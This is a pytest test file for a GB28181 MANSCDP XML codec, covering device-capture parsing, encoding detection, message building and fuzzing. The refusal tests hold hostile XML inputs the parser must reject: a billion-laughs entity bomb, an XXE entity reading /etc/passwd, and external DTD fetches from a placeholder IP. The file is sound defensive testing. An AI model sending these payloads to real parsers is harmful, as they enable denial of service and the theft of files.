"""Tests for the MANSCDP codec, with bodies shaped like real device captures (PROTOCOL.md §3, §9)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gb28181.manscdp import (
    BEIJING,
    MAX_BODY,
    Manscdp,
    ManscdpError,
    Node,
    build,
    decode_body,
    format_time,
    parse,
    parse_parental,
    parse_status,
    parse_time,
)

# Hik IPC keepalive (SRS-CAP): UTF-8 declared, LF-only, empty <Info>.
HIK_IPC_KEEPALIVE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b"<Notify>\n"
    b"<CmdType>Keepalive</CmdType>\n"
    b"<SN>43</SN>\n"
    b"<DeviceID>34020000001320000001</DeviceID>\n"
    b"<Status>OK</Status>\n"
    b"<Info>\n"
    b"</Info>\n"
    b"</Notify>\n"
)

# Hik NVR catalog part (SRS-CAP, DH-CAP): lower-case gb2312, CRLF, 2 items per part,
# placeholder Manufacturer/CivilCode, no ParentID, Chinese channel names.
HIK_NVR_CATALOG = (
    '<?xml version="1.0" encoding="gb2312"?>\r\n'
    "<Response>\r\n"
    "<CmdType>Catalog</CmdType>\r\n"
    "<SN>17430</SN>\r\n"
    "<DeviceID>34020000001110000001</DeviceID>\r\n"
    "<SumNum>4</SumNum>\r\n"
    '<DeviceList Num="2">\r\n'
    "<Item>\r\n"
    "<DeviceID>34020000001310000001</DeviceID>\r\n"
    "<Name>东门入口</Name>\r\n"
    "<Manufacturer>Manufacturer</Manufacturer>\r\n"
    "<Model>Camera</Model>\r\n"
    "<Owner>Owner</Owner>\r\n"
    "<CivilCode>CivilCode</CivilCode>\r\n"
    "<Address>Address</Address>\r\n"
    "<Parental>0</Parental>\r\n"
    "<SafetyWay>0</SafetyWay>\r\n"
    "<RegisterWay>1</RegisterWay>\r\n"
    "<Secrecy>0</Secrecy>\r\n"
    "<Status>ON</Status>\r\n"
    "</Item>\r\n"
    "<Item>\r\n"
    "<DeviceID>34020000001310000002</DeviceID>\r\n"
    "<Name>地下车库二层</Name>\r\n"
    "<Manufacturer>Manufacturer</Manufacturer>\r\n"
    "<Model>Camera</Model>\r\n"
    "<Owner>Owner</Owner>\r\n"
    "<CivilCode>CivilCode</CivilCode>\r\n"
    "<Address>Address</Address>\r\n"
    "<Parental>0</Parental>\r\n"
    "<SafetyWay>0</SafetyWay>\r\n"
    "<RegisterWay>1</RegisterWay>\r\n"
    "<Secrecy>0</Secrecy>\r\n"
    "<Status>OFF</Status>\r\n"
    "</Item>\r\n"
    "</DeviceList>\r\n"
    "</Response>\r\n"
).encode("gb18030")

# Dahua SD catalog (DH-CAP): `encoding="GB2312" ?>`, indented, Owner 0, ParentID = device,
# extra <StreamNum>.
DAHUA_CATALOG = b"""<?xml version="1.0" encoding="GB2312" ?>
<Response>
    <CmdType>Catalog</CmdType>
    <SN>7</SN>
    <DeviceID>34020000001320000002</DeviceID>
    <SumNum>1</SumNum>
    <DeviceList Num="1">
        <Item>
            <DeviceID>34020000001310000001</DeviceID>
            <Name>DH71</Name>
            <Manufacturer>Dahua</Manufacturer>
            <Model>DH-SD-6C3230UE-HN</Model>
            <Owner>0</Owner>
            <CivilCode>340200</CivilCode>
            <Address>axy</Address>
            <Parental>0</Parental>
            <ParentID>34020000001320000002</ParentID>
            <RegisterWay>1</RegisterWay>
            <Secrecy>0</Secrecy>
            <StreamNum>2</StreamNum>
            <Status>ON</Status>
            <Info>
                <PTZType>3</PTZType>
                <DownloadSpeed>1/2/4/8</DownloadSpeed>
            </Info>
        </Item>
    </DeviceList>
</Response>
"""

# Dahua DeviceStatus (DH-CAP): Alarmstatus with Num and two items.
DAHUA_DEVICE_STATUS = b"""<?xml version="1.0" encoding="GB2312" ?>
<Response>
    <CmdType>DeviceStatus</CmdType>
    <SN>10</SN>
    <DeviceID>34020000001320000002</DeviceID>
    <Result>OK</Result>
    <Online>ONLINE</Online>
    <Status>OK</Status>
    <DeviceTime>2024-05-17T14:24:54</DeviceTime>
    <Encode>ON</Encode>
    <Record>OFF</Record>
    <Alarmstatus Num="2">
        <Item>
            <DeviceID>34020000001340000001</DeviceID>
            <DutyStatus>ONDUTY</DutyStatus>
        </Item>
        <Item>
            <DeviceID>34020000001340000002</DeviceID>
            <DutyStatus>ONDUTY</DutyStatus>
        </Item>
    </Alarmstatus>
</Response>
"""

# eXosip-style query: no encoding in the declaration.
EXOSIP_QUERY = (
    b'<?xml version="1.0"?>\n<Query>\n<CmdType>Catalog</CmdType>\n<SN>7</SN>\n'
    b"<DeviceID>34020000001320000002</DeviceID>\n</Query>\n"
)


def _catalog_item(name: str, address: str = "Address") -> str:
    return (
        '<?xml version="1.0" encoding="GB2312"?>\r\n<Response>\r\n'
        "<CmdType>Catalog</CmdType>\r\n<SN>5</SN>\r\n<DeviceID>34020000001110000001</DeviceID>\r\n"
        '<SumNum>1</SumNum>\r\n<DeviceList Num="1">\r\n<Item>\r\n'
        "<DeviceID>34020000001310000001</DeviceID>\r\n"
        f"<Name>{name}</Name>\r\n"
        f"<Address>{address}</Address>\r\n"
        "<Status>ON</Status>\r\n"
        "</Item>\r\n</DeviceList>\r\n</Response>\r\n"
    )


# --------------------------------------------------------------------------- real shapes


def test_hik_ipc_keepalive() -> None:
    m = parse(HIK_IPC_KEEPALIVE)
    assert (m.root, m.cmd_type, m.sn, m.device_id) == (
        "Notify",
        "Keepalive",
        43,
        "34020000001320000001",
    )
    assert m.encoding == "utf-8"
    assert m.text("Status") == "OK"
    assert m.text("Info") == ""
    assert m.text("Info/DeviceID", "none") == "none"
    assert m.element.find("Info") is not None


def test_hik_nvr_catalog_gb2312_chinese() -> None:
    m = parse(HIK_NVR_CATALOG)
    assert m.encoding == "gb18030"
    assert (m.root, m.cmd_type, m.sn) == ("Response", "Catalog", 17430)
    assert m.text("SumNum") == "4"
    assert m.element.find("DeviceList").get("Num") == "2"
    items = m.items()
    assert [i["Name"] for i in items] == ["东门入口", "地下车库二层"]
    assert [parse_status(i["Status"]) for i in items] == [True, False]
    assert "ParentID" not in items[0]


def test_dahua_indented_catalog_with_extra_fields() -> None:
    m = parse(DAHUA_CATALOG)
    assert (m.cmd_type, m.sn, m.device_id) == ("Catalog", 7, "34020000001320000002")
    [item] = m.items()
    assert item["StreamNum"] == "2"  # vendor extra kept
    assert item["Info"] == {"PTZType": "3", "DownloadSpeed": "1/2/4/8"}
    assert item["ParentID"] == "34020000001320000002"
    # Indentation is gone from every text value.
    assert all(el.text is None or el.text == el.text.strip() for el in m.element.iter())


def test_dahua_device_status_alarm_items() -> None:
    m = parse(DAHUA_DEVICE_STATUS)
    assert parse_status(m.text("Online")) is True
    assert parse_time(m.text("DeviceTime")) == datetime(2024, 5, 17, 14, 24, 54, tzinfo=BEIJING)
    assert m.items("Alarmstatus") == [
        {"DeviceID": "34020000001340000001", "DutyStatus": "ONDUTY"},
        {"DeviceID": "34020000001340000002", "DutyStatus": "ONDUTY"},
    ]


def test_query_without_encoding() -> None:
    m = parse(EXOSIP_QUERY)
    assert (m.root, m.cmd_type, m.sn) == ("Query", "Catalog", 7)
    assert m.items() == []


def test_bare_ampersand_in_name() -> None:
    body = _catalog_item("A&B 门口 &amp; &#25105; &lt;1&gt;").encode("gb18030")
    [item] = parse(body).items()
    assert item["Name"] == "A&B 门口 & 我 <1>"


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("1<2号楼", "1<2号楼"),  # stray `<`
        ("Floor<B1>East", "Floor<B1>East"),  # tag-like text: escaped in place
        ("<unknown>", "<unknown>"),
    ],
)
def test_lt_inside_address_is_kept(address: str, expected: str) -> None:
    m = parse(_catalog_item("大厅", address).encode("gb18030"))
    [item] = m.items()
    assert item["Address"] == expected
    assert item["Name"] == "大厅"


def test_broken_multiline_address_is_dropped() -> None:
    body = _catalog_item("大厅", "Gate<A\r\n<B>").encode("gb18030")
    [item] = parse(body).items()
    assert "Address" not in item
    assert item["Name"] == "大厅"
    assert item["Status"] == "ON"


def test_rare_characters_need_gb18030() -> None:
    rare = "王𠀀喆镕堃㛃"  # Ext-B and Ext-A characters are outside GBK
    with pytest.raises(UnicodeEncodeError):
        rare.encode("gbk")
    m = parse(_catalog_item(rare).encode("gb18030"))
    assert m.encoding == "gb18030"
    assert m.items()[0]["Name"] == rare


def test_utf8_body_declared_gb2312() -> None:
    # A lying declaration: GB18030 is tried first and fails ("东门口" is 9 bytes, and the
    # last GB18030 pair would end in "<"), so the body is read as the UTF-8 it is.
    body = _catalog_item("东门口").encode("utf-8")
    m = parse(body)
    assert m.encoding == "utf-8"
    assert m.items()[0]["Name"] == "东门口"


# "学院路" in GB2312 is D1A7 D4BA C2B7, which is also valid UTF-8 for "ѧԺ·" (U+0467 U+053A
# U+00B7): only the declaration can tell them apart.
AMBIGUOUS_NAME = "学院路 01"
AMBIGUOUS_BYTES = b"\xd1\xa7\xd4\xba\xc2\xb7 01"


def _device_info(declaration: bytes, name: bytes) -> bytes:
    return (
        declaration + b"\r\n<Response>\r\n<CmdType>DeviceInfo</CmdType>\r\n<SN>9</SN>\r\n"
        b"<DeviceID>34020000001180000001</DeviceID>\r\n<DeviceName>" + name + b"</DeviceName>\r\n"
        b"<Result>OK</Result>\r\n</Response>\r\n"
    )


def test_ambiguous_bytes_are_valid_in_both_charsets() -> None:
    assert AMBIGUOUS_NAME.encode("gb2312") == AMBIGUOUS_BYTES
    assert AMBIGUOUS_BYTES.decode("utf-8") == "\u0467\u053a\u00b7 01"


@pytest.mark.parametrize(
    "declaration",
    [
        b'<?xml version="1.0" encoding="GB2312"?>',
        b'<?xml version="1.0" encoding="gb2312"?>',  # Hik NVR
        b'<?xml version="1.0" encoding="GB2312" ?>',  # Dahua
        b"<?xml version='1.0' encoding = 'Gb2312'?>",
        b'<?xml version="1.0" encoding="GBK"?>',
        b'<?xml version="1.0" encoding="gb18030" standalone="yes"?>',
        b'\r\n  <?xml version="1.0" encoding="GB2312"?>',  # whitespace before the declaration
    ],
)
def test_gb_declaration_wins_over_accidental_utf8(declaration: bytes) -> None:
    body = _device_info(declaration, AMBIGUOUS_BYTES)
    m = parse(body)
    assert m.encoding == "gb18030"
    assert m.text("DeviceName") == AMBIGUOUS_NAME
    assert decode_body(body).endswith("</Response>\r\n") and AMBIGUOUS_NAME in decode_body(body)


@pytest.mark.parametrize(
    "declaration",
    [
        b'<?xml version="1.0" encoding="UTF-8"?>',
        b'<?xml version="1.0"?>',
        b"",
        b'\xef\xbb\xbf<?xml version="1.0" encoding="GB2312"?>',  # a UTF-8 BOM outranks it
        b'<?xml version="1.0" encoding="GB2312-ish"?>',
    ],
)
def test_without_a_gb_declaration_valid_utf8_still_wins(declaration: bytes) -> None:
    m = parse(_device_info(declaration, AMBIGUOUS_BYTES))
    assert m.encoding == "utf-8"
    assert m.text("DeviceName") == "\u0467\u053a\u00b7 01"


def test_real_device_name_in_gb2312_with_declaration() -> None:
    name = "合肥市长江路与黄山路交叉口球机"
    for declaration in (b'<?xml version="1.0" encoding="GB2312"?>', b""):
        m = parse(_device_info(declaration, name.encode("gb2312")))
        assert m.encoding == "gb18030" and m.text("DeviceName") == name


# --------------------------------------------------------------------------- repairs


@pytest.mark.parametrize(
    "body",
    [
        HIK_IPC_KEEPALIVE.replace(b"\n", b"\r\n"),  # CRLF
        HIK_IPC_KEEPALIVE.split(b"\n", 1)[1],  # no declaration
        b"\xef\xbb\xbf" + HIK_IPC_KEEPALIVE,  # UTF-8 BOM
        HIK_IPC_KEEPALIVE + b"\x00\x00\x00\x00",  # NUL padding
        b"\r\n  \r\n" + HIK_IPC_KEEPALIVE,  # whitespace before <?xml
        b"garbage;" + HIK_IPC_KEEPALIVE,  # garbage before <?xml
        HIK_IPC_KEEPALIVE + b"trailing junk",
        HIK_IPC_KEEPALIVE.replace(b'"UTF-8"?>', b'"GB2312" ?>'),
        HIK_IPC_KEEPALIVE.replace(b'version="1.0"', b"version=1.0"),  # broken declaration
        HIK_IPC_KEEPALIVE.replace(b"<SN>43</SN>", b"<SN> 43 </SN>"),
        HIK_IPC_KEEPALIVE.replace(b"Keepalive</", b"  Keepalive \r\n</"),
        HIK_IPC_KEEPALIVE.replace(b"\n", b""),  # all on one line
    ],
)
def test_tolerated_breakage(body: bytes) -> None:
    m = parse(body)
    assert (m.root, m.cmd_type, m.sn, m.device_id) == (
        "Notify",
        "Keepalive",
        43,
        "34020000001320000001",
    )
    assert m.text("Status") == "OK"


def test_decode_body() -> None:
    assert decode_body("<a>中</a>".encode()) == "<a>中</a>"
    assert decode_body("<a>中</a>".encode("gb18030")) == "<a>中</a>"
    assert decode_body(b"\xef\xbb\xbf<a/>\x00\x00") == "<a/>"
    assert decode_body(b"<a>\xff</a>") == "<a>\ufffd</a>"
    gb = b'<?xml version="1.0" encoding="GB2312"?>'
    assert decode_body(gb + b"<a>\xff</a>") == '<?xml version="1.0" encoding="GB2312"?><a>\ufffd</a>'
    assert decode_body(gb + b"<a>" + AMBIGUOUS_BYTES + b"</a>").endswith(f"<a>{AMBIGUOUS_NAME}</a>")
    assert decode_body(b"<a>" + AMBIGUOUS_BYTES + b"</a>") == "<a>\u0467\u053a\u00b7 01</a>"


# --------------------------------------------------------------------------- refusals


def _error(body: bytes) -> str:
    with pytest.raises(ManscdpError) as info:
        parse(body)
    return str(info.value)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&lol9;</DeviceID></Notify>
"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        b'<?xml version="1.0"?>\n<!DOCTYPE Notify [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&xxe;</DeviceID></Notify>",
        b'<!DOCTYPE Notify [<!ENTITY % p SYSTEM "http://203.0.113.1/x.dtd"> %p;]>'
        b"<Notify><CmdType>Keepalive</CmdType></Notify>",
        b'<!DOCTYPE Notify SYSTEM "http://203.0.113.1/x.dtd"><Notify><CmdType>K</CmdType></Notify>',
        # Leading garbage sends the DOCTYPE through the repair path: still refused.
        b"junk " + BILLION_LAUGHS,
    ],
)
def test_dtd_and_entities_refused(body: bytes) -> None:
    assert "DTD" in _error(body)


@pytest.mark.parametrize(
    ("body", "cause"),
    [
        (b"", "empty"),
        (b" \r\n\x00\x00", "empty"),
        (b"hello", "not XML"),
        (b"<Notify><CmdType>Keepalive</CmdType>", "not well-formed"),
        (
            b"<Alarm><CmdType>Keepalive</CmdType></Alarm>",
            "unknown root element <Alarm>; expected Notify, Query, Control or Response",
        ),
        (b"<notify><CmdType>Keepalive</CmdType></notify>", "unknown root element <notify>"),
        (b"<Notify><SN>1</SN></Notify>", "CmdType"),
        (b"<Notify><CmdType>  </CmdType></Notify>", "CmdType"),
        (b"<Notify>" + b"<a>" * 40 + b"</a>" * 40 + b"</Notify>", "nested deeper"),
        (b" " * (MAX_BODY + 1), "limit"),
    ],
)
def test_unusable_bodies(body: bytes, cause: str) -> None:
    assert cause in _error(body)


def test_sn_and_device_id_optional() -> None:
    m = parse(b"<Notify><CmdType>Keepalive</CmdType><SN>abc</SN></Notify>")
    assert (m.sn, m.device_id) == (None, "")
    assert parse(b"<Notify><CmdType>K</CmdType><SN>-5</SN></Notify>").sn is None
    assert parse(b"<Notify><CmdType>K</CmdType><SN>" + b"9" * 5000 + b"</SN></Notify>").sn is None


def test_items_repeated_and_nested() -> None:
    m = parse(
        b"<Response><CmdType>Catalog</CmdType><DeviceList>"
        b"<Item><DeviceID>1</DeviceID><Info><Resolution>6</Resolution><Resolution>3</Resolution>"
        b"</Info><X/><X>b</X></Item><Other/><Item/></DeviceList></Response>"
    )
    assert m.items() == [
        {"DeviceID": "1", "Info": {"Resolution": ["6", "3"]}, "X": ["", "b"]},
        {},
    ]
    assert m.items("RecordList") == []


# --------------------------------------------------------------------------- build


def test_build_keepalive_exact_bytes() -> None:
    body = build("Notify", "Keepalive", 43, "34020000001320000001", [("Status", "OK")])
    assert body == (
        b'<?xml version="1.0" encoding="GB2312"?>\r\n<Notify>\r\n'
        b"<CmdType>Keepalive</CmdType>\r\n<SN>43</SN>\r\n"
        b"<DeviceID>34020000001320000001</DeviceID>\r\n<Status>OK</Status>\r\n</Notify>\r\n"
    )


def test_build_catalog_round_trip_gb2312_chinese() -> None:
    items = [
        [
            ("DeviceID", "34020000001310000001"),
            ("Name", "东门 & <入口>"),
            ("Manufacturer", "海康威视"),
            ("Parental", 0),
            ("Longitude", 120.123456),
            ("ParentID", None),  # left out
            ("Status", "ON"),
            ("Info", [("PTZType", 1), ("DownloadSpeed", "1/2/4/8")]),
        ],
        {"DeviceID": "34020000001310000002", "Name": "王𠀀", "Status": "OFF"},
    ]
    body = build(
        "Response",
        "Catalog",
        17430,
        "34020000001110000001",
        [
            ("SumNum", 2),
            ("DeviceList", Node({"Num": len(items)}, [("Item", i) for i in items])),
        ],
    )
    assert body.startswith(b'<?xml version="1.0" encoding="GB2312"?>\r\n<Response>\r\n')
    assert b'<DeviceList Num="2">\r\n<Item>\r\n' in body
    assert b"ParentID" not in body
    m = parse(body)
    assert m.encoding == "gb18030"
    assert (m.root, m.cmd_type, m.sn, m.device_id) == (
        "Response",
        "Catalog",
        17430,
        "34020000001110000001",
    )
    assert m.element.find("DeviceList").get("Num") == "2"
    assert m.items() == [
        {
            "DeviceID": "34020000001310000001",
            "Name": "东门 & <入口>",
            "Manufacturer": "海康威视",
            "Parental": "0",
            "Longitude": "120.123456",
            "Status": "ON",
            "Info": {"PTZType": "1", "DownloadSpeed": "1/2/4/8"},
        },
        {"DeviceID": "34020000001310000002", "Name": "王𠀀", "Status": "OFF"},
    ]


def test_build_utf8_and_other_values() -> None:
    when = datetime(2024, 5, 7, 4, 7, 3, tzinfo=UTC)
    body = build(
        "Query",
        "RecordInfo",
        9,
        "34020000001310000001",
        [
            ("StartTime", when),
            ("Type", "all"),
            ("Note", 'quote " and bad\x01char'),
            ("Empty", Node({"Num": 0})),
            ("Attr", Node({"q": 'a"b<'}, "text")),
        ],
        encoding="UTF-8",
    )
    assert body.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\r\n')
    assert b"<StartTime>2024-05-07T12:07:03</StartTime>" in body
    m = parse(body)
    assert m.encoding == "utf-8"
    assert m.text("Note") == 'quote " and badchar'
    assert m.element.find("Empty").get("Num") == "0"
    assert m.element.find("Attr").get("q") == 'a"b<'
    assert m.text("Attr") == "text"


@pytest.mark.parametrize(
    ("kwargs", "exc"),
    [
        ({"root": "Alarm"}, ValueError),
        ({"encoding": "latin-1"}, ValueError),
        ({"fields": [("Status", True)]}, TypeError),
        ({"fields": [("Bad Tag", "x")]}, ValueError),
        ({"fields": [("Obj", object())]}, TypeError),
        ({"fields": [("List", ["not a pair"])]}, TypeError),
        ({"sn": "1"}, TypeError),
    ],
)
def test_build_rejects_misuse(kwargs: dict, exc: type[Exception]) -> None:
    args = {"root": "Notify", "cmd_type": "Keepalive", "sn": 1, "device_id": "1"} | kwargs
    with pytest.raises(exc):
        build(**args)


# --------------------------------------------------------------------------- field values


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-05-07T04:07:03", datetime(2024, 5, 7, 4, 7, 3, tzinfo=BEIJING)),
        ("2024-5-7T4:07:03", datetime(2024, 5, 7, 4, 7, 3, tzinfo=BEIJING)),
        ("2024-05-07 04:07:03", datetime(2024, 5, 7, 4, 7, 3, tzinfo=BEIJING)),
        ("2024-05-07T04:07:03.232", datetime(2024, 5, 7, 4, 7, 3, 232000, tzinfo=BEIJING)),
        ("2024-05-07T04:07:03Z", datetime(2024, 5, 7, 4, 7, 3, tzinfo=UTC)),
        ("2024-05-07T04:07:03+08:00", datetime(2024, 5, 7, 4, 7, 3, tzinfo=BEIJING)),
        (
            "2024-05-07T04:07:03.5-05:30",
            datetime(2024, 5, 7, 4, 7, 3, 500000, tzinfo=timezone(-timedelta(hours=5, minutes=30))),
        ),
        (" 2024-05-07T04:07:03 ", datetime(2024, 5, 7, 4, 7, 3, tzinfo=BEIJING)),
        ("", None),
        ("garbage", None),
        ("2024-13-07T04:07:03", None),
        ("2024-02-30T04:07:03", None),
        ("2024-05-07T25:07:03", None),
        ("2024-05-07", None),
        ("２０２４-05-07T04:07:03", None),
    ],
)
def test_parse_time(text: str, expected: datetime | None) -> None:
    got = parse_time(text)
    assert got == expected
    if got is not None:
        assert got.utcoffset() == expected.utcoffset()


def test_format_time() -> None:
    assert format_time(datetime(2024, 5, 7, 4, 7, 3, 999)) == "2024-05-07T04:07:03"
    utc = datetime(2024, 5, 7, 20, 0, 0, tzinfo=UTC)
    assert format_time(utc) == "2024-05-08T04:00:00"
    assert parse_time(format_time(utc)) == utc


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ON", True),
        ("On", True),
        (" online ", True),
        ("OK", True),
        ("1", True),
        ("OFF", False),
        ("OFFLINE", False),
        ("0", False),
        ("ERROR", None),
        ("", None),
        (None, None),
    ],
)
def test_parse_status(text: str | None, expected: bool | None) -> None:
    assert parse_status(text) is expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [("0", 0), ("1", 1), ("65535", 1), (" 1 ", 1), ("00", 0), ("", 0), ("x", 0), (None, 0), (3, 1)],
)
def test_parse_parental(value: object, expected: int) -> None:
    assert parse_parental(value) == expected


# --------------------------------------------------------------------------- fuzz

SAMPLES = [
    HIK_IPC_KEEPALIVE,
    HIK_NVR_CATALOG,
    DAHUA_CATALOG,
    DAHUA_DEVICE_STATUS,
    EXOSIP_QUERY,
    _catalog_item("A&B", "1<2").encode("gb18030"),
]

FRAGMENTS = [
    "<?xml version=\"1.0\" encoding=\"GB2312\" ?>",
    "<Notify>",
    "</Notify>",
    "<Response>",
    "</Response>",
    "<CmdType>",
    "</CmdType>",
    "Catalog",
    "<SN>",
    "</SN>",
    "12",
    "<DeviceList Num=\"1\">",
    "</DeviceList>",
    "<Item>",
    "</Item>",
    "<Address>",
    "</Address>",
    "<Info/>",
    "&",
    "&amp;",
    "&#x",
    "<",
    ">",
    "<!DOCTYPE x>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "\r\n",
    " ",
    "东门",
    "\x00",
    "\ufeff",
]


def _outcome(body: bytes) -> None:
    try:
        result = parse(body)
    except ManscdpError:
        return
    assert isinstance(result, Manscdp)
    # Whatever parsed must be usable by readers without further surprises.
    result.items()
    result.text("Info/PTZType")


FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FUZZ
@given(st.binary(max_size=512))
def test_fuzz_arbitrary_bytes(body: bytes) -> None:
    _outcome(body)


@st.composite
def mutated_bodies(draw: st.DrawFn) -> bytes:
    body = bytearray(draw(st.sampled_from(SAMPLES)))
    for _ in range(draw(st.integers(1, 6))):
        pos = draw(st.integers(0, len(body)))
        op = draw(st.sampled_from(["insert", "delete", "replace"]))
        if op == "insert":
            body[pos:pos] = draw(
                st.one_of(
                    st.binary(min_size=1, max_size=8),
                    st.sampled_from(FRAGMENTS).map(lambda f: f.encode("gb18030")),
                )
            )
        elif op == "delete":
            del body[pos : pos + draw(st.integers(1, 16))]
        elif pos < len(body):
            body[pos] = draw(st.sampled_from(b"<>&/\"'=;#![]%?\x00\xff\xfe\x81 "))
    return bytes(body)


@FUZZ
@given(mutated_bodies())
def test_fuzz_mutated_valid_bodies(body: bytes) -> None:
    _outcome(body)


@FUZZ
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40), st.sampled_from(["utf-8", "gb18030"]))
def test_fuzz_xml_fragment_soup(parts: list[str], encoding: str) -> None:
    _outcome("".join(parts).encode(encoding))


XML_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")), max_size=40)


@FUZZ
@given(XML_TEXT, XML_TEXT, st.integers(0, 2**63), st.sampled_from(["UTF-8", "GB18030", "GB2312"]))
def test_fuzz_build_parse_round_trip(name: str, address: str, sn: int, encoding: str) -> None:
    # A leading "中" makes GB bodies invalid UTF-8, so the decoder cannot mistake them.
    name = "中" + name
    body = build(
        "Response",
        "Catalog",
        sn,
        "34020000001110000001",
        [("DeviceList", Node({"Num": 1}, [("Item", [("Name", name), ("Address", address)])]))],
        encoding=encoding,
    )
    m = parse(body)
    assert m.sn == sn
    assert m.encoding == ("utf-8" if encoding == "UTF-8" else "gb18030")
    [item] = m.items()
    assert item["Name"] == name.strip()
    assert item["Address"] == address.strip()


@FUZZ
@given(XML_TEXT, st.sampled_from(["GB18030", "GB2312", "GBK"]))
def test_fuzz_gb_declared_bodies_read_back_whatever_they_hold(name: str, encoding: str) -> None:
    # With the declaration honoured, no "中" is needed to keep GB bytes from passing as UTF-8.
    body = build("Response", "DeviceInfo", 1, "34020000001180000001", [("DeviceName", name)],
                 encoding=encoding)
    m = parse(body)
    assert m.encoding == "gb18030" and m.text("DeviceName") == name.strip()
